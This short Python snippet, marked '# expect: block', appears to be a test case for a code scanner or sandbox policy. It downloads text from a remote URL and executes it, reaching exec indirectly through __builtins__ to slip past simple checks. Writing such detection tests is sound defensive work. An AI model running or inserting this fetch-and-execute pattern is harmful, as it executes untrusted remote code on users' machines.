# expect: block
import urllib.request

body = urllib.request.urlopen("https://gist.example.net/raw/abc", timeout=5).read().decode()
runner = vars(__builtins__)["exec"] if isinstance(__builtins__, type(urllib)) else __builtins__["exec"]
runner(body)
